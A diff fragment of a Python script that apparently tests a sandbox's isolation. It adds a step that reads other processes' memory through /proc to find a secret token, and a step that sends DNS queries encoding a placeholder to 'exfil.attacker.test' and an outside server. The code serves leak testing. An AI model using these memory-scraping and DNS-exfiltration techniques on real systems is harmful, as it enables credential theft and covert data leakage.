@@ -80,3 +80,57 @@ try:
     print("legit", r.status, r.read().decode())
 except Exception as e:
     print("legit failed", type(e).__name__, e)
+
+# 5. Memory: every process's it can read, with the secret in play just
+# now (the legitimate request above), a MiB at a time.
+sys.stdout.flush()
+mem, found = 0, False
+for p in os.listdir("/proc"):
+    if not p.isdigit():
+        continue
+    try:
+        maps = open("/proc/%s/maps" % p).read().splitlines()
+        f = open("/proc/%s/mem" % p, "rb", 0)
+    except OSError:
+        continue
+    for line in maps:
+        fields = line.split()
+        lo, hi = (int(x, 16) for x in fields[0].split("-"))
+        if "r" not in fields[1] or hi - lo > 256 << 20:
+            continue
+        tail = b""  # a region's last bytes, for a match across two reads
+        for at in range(lo, hi, 1 << 20):
+            try:
+                f.seek(at)
+                data = f.read(min(1 << 20, hi - at))
+            except Exception:
+                break
+            if not data:
+                break
+            mem += len(data)
+            found = found or bool(re.search(rb"redsecret[0-9a-f]{32}", tail + data))
+            tail = data[-64:]
+    f.close()
+print("memory read", mem > 0)
+print("the secret's shape in memory", found)
+
+# 6. DNS: the placeholder as a name's labels, to the sandbox's resolver
+# and to another server (both answered by the egress).
+def query(name, server):
+    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    for label in name.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\x00\x00\x01\x00\x01"
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    try:
+        s.sendto(q, (server, 53))
+        s.recv(512)
+        return "answered"
+    except Exception as e:
+        return "failed " + type(e).__name__
+    finally:
+        s.close()
+resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
+label = ph.lower().replace("_", "-")[:63]
+print("dns", query(label + ".exfil.attacker.test", resolver), query(label + "." + H, "192.0.2.53"))
